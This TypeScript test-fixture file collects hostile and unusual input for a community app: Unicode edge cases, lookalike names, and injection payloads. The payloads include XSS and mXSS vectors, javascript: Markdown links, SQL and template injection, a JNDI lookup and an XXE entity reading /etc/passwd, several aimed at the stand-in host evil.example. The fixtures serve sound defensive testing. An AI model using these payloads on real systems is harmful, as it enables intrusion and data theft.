/**
 * Hostile and merely unusual text for tests: what must survive byte for byte, what must never run, what must be refused.
 * Written with escapes wherever an editor or a reader would not see what is there.
 */

export interface Hostile {
  /** Says in a test's name what it is. */
  readonly name: string;
  readonly text: string;
  /** What goes wrong with it elsewhere. */
  readonly note: string;
}

/** Kept exactly as it is, at any place where people write. */
export const survives: readonly Hostile[] = [
  {
    name: 'family',
    text: '一家人 \u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} 到齐',
    note: 'emoji joined by zero-width joiners: cut in half by naive limits',
  },
  {
    name: 'skin tone',
    text: '谢谢 \u{1F44D}\u{1F3FD} \u{1F9D1}\u{1F3FF}\u200D\u{1F91D}\u200D\u{1F9D1}\u{1F3FB}',
    note: 'modifiers',
  },
  {
    name: 'flags',
    text: '\u{1F1E8}\u{1F1F3}\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}',
    note: 'regional indicators and tag sequences',
  },
  { name: 'keycap', text: '3\uFE0F\u20E3 号楼 \u2764\uFE0F', note: 'variation selectors' },
  { name: 'rare han', text: '\u{20BB7}野家隔壁，门牌\u{2A6A5}字', note: '𠮷 and 𪚥: outside the first plane' },
  {
    name: 'newest han',
    text: '姓\u{30EDE}的邻居，名\u{323AF}',
    note: 'extension H: often without a font, never without a code',
  },
  { name: 'compatibility han', text: '\uF90A\u{2F800}', note: 'must not be normalized to another character' },
  { name: 'decomposed', text: 'cafe\u0301 与 caf\u00E9', note: 'two spellings that must stay two' },
  { name: 'hangul jamo', text: '\u1112\u1161\u11AB\uAE00', note: 'composes under NFC' },
  {
    name: 'right to left',
    text: '阿里说 \u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD 你好',
    note: 'mixed directions',
  },
  { name: 'override', text: '收据\u202Efdp.exe\u202C', note: 'shows .exe as if it ended in pdf' },
  { name: 'isolates', text: '\u2066left\u2069 \u2067right\u2069 \u2068auto', note: 'an isolate left open' },
  {
    name: 'zero width',
    text: '楼\u200B道\u200C灯\u200D不\u2060亮\uFEFF',
    note: 'invisible: must survive, and be found by a search for 楼道灯',
  },
  { name: 'soft hyphen', text: 'street\u00ADlamp', note: 'invisible' },
  {
    name: 'odd spaces',
    text: '三\u00A0单元\u2003五\u3000零\u202F二',
    note: 'spaces that trim() knows and others don’t',
  },
  {
    name: 'line separators',
    text: '一行\u2028二行\u2029三行\u0085四行',
    note: 'end lines in JavaScript but not in JSON',
  },
  { name: 'carriage returns', text: '一\r\n二\r三\n四', note: 'must not become each other' },
  {
    name: 'tabs and bells',
    text: '\t响\u0007铃\u001B[31m红\u001B[0m\u007F',
    note: 'control characters: dangerous in a terminal’s log only',
  },
  {
    name: 'combining flood',
    text: `灯${'\u0335\u0321\u0322\u0327\u0328'.repeat(60)}不亮`,
    note: 'runs over its neighbours: the page clips it, the text stays',
  },
  { name: 'private use', text: '\uE000\u{F0000}\u{10FFFD}', note: 'last of the planes' },
  { name: 'noncharacters', text: '\uFFFE\uFFFF\u{1FFFE}', note: 'valid to store' },
  { name: 'long word', text: `啊${'a'.repeat(3000)}`, note: 'must wrap, not widen the page' },
  { name: 'long han', text: '哈'.repeat(5000), note: 'no space to break at' },
  { name: 'thousand lines', text: '嗯\n'.repeat(1000).trimEnd(), note: 'high, not wide' },
  { name: 'only an emoji', text: '\u{1F389}', note: 'one grapheme, two units' },
];

/** Survives as text, and never becomes mark-up that runs or an address that is fetched. */
export const injections: readonly Hostile[] = [
  { name: 'script', text: '<script>window.hacked=1</script>', note: 'the plain one' },
  { name: 'script in capitals', text: '<ScRiPt src=//evil.example/x.js></sCrIpT >', note: 'case and a space' },
  { name: 'image error', text: '<img src=x onerror=window.hacked=1>', note: 'no quotes' },
  { name: 'svg load', text: '<svg/onload=window.hacked=1>', note: 'a slash for a space' },
  { name: 'details toggle', text: '<details open ontoggle=window.hacked=1>', note: 'needs no click' },
  { name: 'autofocus', text: '<input autofocus onfocus=window.hacked=1>', note: 'needs no click' },
  {
    name: 'iframe',
    text: '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    note: 'document in an attribute',
  },
  { name: 'object', text: '<object data="data:text/html;base64,PHNjcmlwdD4="></object>', note: 'plugin of old' },
  { name: 'base', text: '<base href="//evil.example/">', note: 'moves every relative address' },
  { name: 'refresh', text: '<meta http-equiv=refresh content="0;url=//evil.example">', note: 'leaves the page' },
  { name: 'form', text: '<form action=//evil.example><button>登录</button></form>', note: 'asks for a password' },
  { name: 'style', text: '<style>body{display:none}</style>', note: 'hides the page' },
  {
    name: 'style attribute',
    text: '<p style="position:fixed;inset:0;background:url(//evil.example/p)">',
    note: 'covers the page',
  },
  { name: 'css import', text: '<link rel=stylesheet href=//evil.example/x.css>', note: 'fetches' },
  {
    name: 'out of an attribute',
    text: '" onmouseover="window.hacked=1" x="',
    note: 'where text stands in an attribute',
  },
  { name: 'out of a title', text: '</title><script>window.hacked=1</script>', note: 'in the page’s head' },
  {
    name: 'out of json',
    text: '</script><script>window.hacked=1</script>',
    note: 'in the data that is put into the page',
  },
  { name: 'comment in json', text: '<!--<script>', note: 'swallows what follows in a script element' },
  {
    name: 'mutation by svg',
    text: '<svg><style><img src=x onerror=window.hacked=1></style></svg>',
    note: 'mXSS: parsed differently the second time',
  },
  {
    name: 'mutation by math',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    note: 'mXSS',
  },
  {
    name: 'mutation by noscript',
    text: '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
    note: 'mXSS',
  },
  {
    name: 'mutation by template',
    text: '<template><p><img src=x onerror=window.hacked=1></template>',
    note: 'a document within',
  },
  {
    name: 'entities',
    text: '&lt;script&gt;window.hacked=1&lt;/script&gt;&#60;img&#62;',
    note: 'decoded once too often',
  },
  { name: 'null in a tag', text: '<scr\uFFFDipt>window.hacked=1</scr\uFFFDipt>', note: 'replaced characters' },
  { name: 'javascript link', text: '[点我](javascript:window.hacked=1)', note: 'Markdown' },
  {
    name: 'javascript link hidden',
    text: '[点我](java\tscript:window.hacked=1) [再点](&#106;avascript:window.hacked=1)',
    note: 'tabs and entities',
  },
  { name: 'vbscript link', text: '[点我](vbscript:msgbox)', note: 'Markdown' },
  { name: 'data link', text: '[点我](data:text/html,<script>window.hacked=1</script>)', note: 'Markdown' },
  { name: 'protocol-relative link', text: '[社区官网](//evil.example/login)', note: 'Markdown' },
  { name: 'credentials in a link', text: '[社区](https://chunfeng.example@evil.example/)', note: 'shows another host' },
  { name: 'reference link', text: '[点我][a]\n\n[a]: javascript:window.hacked=1 "x"', note: 'Markdown' },
  {
    name: 'automatic link',
    text: '<javascript:window.hacked=1> <https://evil.example/"onclick="window.hacked=1>',
    note: 'Markdown',
  },
  {
    name: 'image',
    text: '![](https://evil.example/pixel.gif)',
    note: 'photos are attached, never fetched from elsewhere',
  },
  { name: 'image with a script', text: '![x"onerror="window.hacked=1](x)', note: 'quotes in the text' },
  {
    name: 'link in a link',
    text: '[a [b](javascript:window.hacked=1) c](https://example.org "t\' onclick=\'x")',
    note: 'nested Markdown',
  },
  {
    name: 'code fence',
    text: '```html" onload="window.hacked=1\n<b>x</b>\n```',
    note: 'the language’s name becomes a class',
  },
  { name: 'deep quotes', text: `${'>'.repeat(500)} 深`, note: 'nesting' },
  {
    name: 'deep lists',
    text: Array.from({ length: 300 }, (_, i) => `${' '.repeat(i * 2)}- 深`).join('\n'),
    note: 'nesting',
  },
  { name: 'emphasis flood', text: '*a_'.repeat(4000), note: 'slow in bad parsers' },
  { name: 'bracket flood', text: '['.repeat(9000), note: 'slow in bad parsers' },
  { name: 'link flood', text: '[a](<b'.repeat(2000), note: 'slow in bad parsers' },
  { name: 'table flood', text: `|${'a|'.repeat(1500)}\n|${'-|'.repeat(1500)}`, note: 'wide' },
  {
    name: 'mention forged',
    text: '<a data-account="00000000-0000-7000-8000-000000000000">@刘芳</a>',
    note: 'a mention nobody made',
  },
  { name: 'sql', text: "'; drop table place; --", note: 'the plain one' },
  { name: 'sql union', text: "1' or '1'='1' union select password from account --", note: 'reads' },
  { name: 'sql like', text: '100%_\\', note: 'wild cards of a search' },
  { name: 'sql dollars', text: '$$; select pg_sleep(9); $$ $1 :name', note: 'parameters and dollar quotes' },
  {
    name: 'template',
    text: '{{constructor.constructor("window.hacked=1")()}} ${7*7} <%= 7*7 %> #{7*7}',
    note: 'template engines',
  },
  { name: 'prototype', text: '__proto__', note: 'as a key' },
  {
    name: 'log forging',
    text: '好的\n{"level":30,"msg":"signed in as administrator"}',
    note: 'a second line in a log',
  },
  { name: 'header', text: 'x\r\nSet-Cookie: session=1', note: 'where text reaches a header' },
  { name: 'spreadsheet', text: '=HYPERLINK("//evil.example","点我")', note: 'where a table is exported' },
  { name: 'mail', text: 'a@example.org\nBcc: everyone@example.org', note: 'where text reaches a mail' },
  { name: 'lookup', text: '${jndi:ldap://evil.example/a}', note: 'loggers of others' },
  {
    name: 'xml entity',
    text: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    note: 'parsers of XML',
  },
];

/** Refused by name, wherever people write: it could not be kept byte for byte. */
export const refusals: readonly (Hostile & { readonly code: 'field/nul' | 'field/surrogate' | 'field/required' })[] = [
  { name: 'nul', text: '灯\u0000不亮', note: 'PostgreSQL keeps no U+0000', code: 'field/nul' },
  { name: 'nul alone', text: '\u0000', note: 'the same', code: 'field/nul' },
  { name: 'high surrogate', text: '灯\uD83D', note: 'half of a character', code: 'field/surrogate' },
  { name: 'low surrogate', text: '\uDE00灯', note: 'the other half', code: 'field/surrogate' },
  {
    name: 'swapped surrogates',
    text: '\uDE00\uD83D',
    note: 'both halves, the wrong way round',
    code: 'field/surrogate',
  },
  { name: 'blank', text: ' \n\t\u3000', note: 'says nothing', code: 'field/required' },
];

/** Names of files that a browser could send along; only shown, never used as a path. */
export const fileNames: readonly Hostile[] = [
  { name: 'up', text: '../../../../etc/passwd', note: 'traversal' },
  { name: 'up on windows', text: '..\\..\\windows\\win.ini', note: 'traversal' },
  { name: 'encoded', text: '%2e%2e%2fphoto.jpg', note: 'decoded once too often' },
  { name: 'absolute', text: '/tmp/photo.jpg', note: 'traversal' },
  { name: 'device', text: 'CON.jpg', note: 'a device of Windows' },
  { name: 'stream', text: 'photo.jpg::$DATA', note: 'a stream of Windows' },
  { name: 'two endings', text: 'photo.jpg.html', note: 'served by its ending' },
  { name: 'hidden ending', text: 'photo\u202Egpj.exe', note: 'override' },
  { name: 'quotes', text: 'a"; filename="b.html', note: 'in a header' },
  { name: 'line ends', text: 'a\r\nContent-Type: text/html.jpg', note: 'in a header' },
  { name: 'dots', text: '...', note: 'no name' },
  { name: 'long', text: `${'长'.repeat(400)}.jpg`, note: 'more than a file system takes' },
  { name: 'markup', text: '<img src=x onerror=window.hacked=1>.jpg', note: 'shown beside the photo' },
];

/** Names that look like somebody else’s: shown as they are, told apart by the badge, never by the name. */
export const lookalikes: readonly Hostile[] = [
  { name: 'cyrillic', text: 'аdmin', note: 'the first letter is U+0430' },
  { name: 'full width', text: 'ａｄｍｉｎ', note: 'the same under NFKC' },
  { name: 'zero width', text: '刘\u200B芳', note: 'a staff member’s name with an invisible letter' },
  { name: 'similar han', text: '社区エ作人员', note: 'the third is a Katakana letter' },
  { name: 'radical', text: '\u2F42化站', note: 'a radical for 文' },
  { name: 'reversed', text: '\u202E芳刘', note: 'reads 刘芳' },
  { name: 'office', text: '春风里社区居委会（官方）', note: 'says it is official' },
];

/** Ids, cursors and numbers that an address could carry: answered as unknown or refused, never as an error of ours. */
export const identifiers: readonly string[] = [
  ...['0', '-1', 'NaN', 'null', 'undefined', 'true', '[]', '{}', '1e309', '9007199254740993', '00000000'],
  ...["' or 1=1 --", '../me', '%00', '%ff', '*', '__proto__', 'constructor', '00000000-0000-0000-0000-000000000000'],
  ...['ffffffff-ffff-ffff-ffff-ffffffffffff', '{00000000-0000-7000-8000-000000000000}', 'a'.repeat(5000)],
];
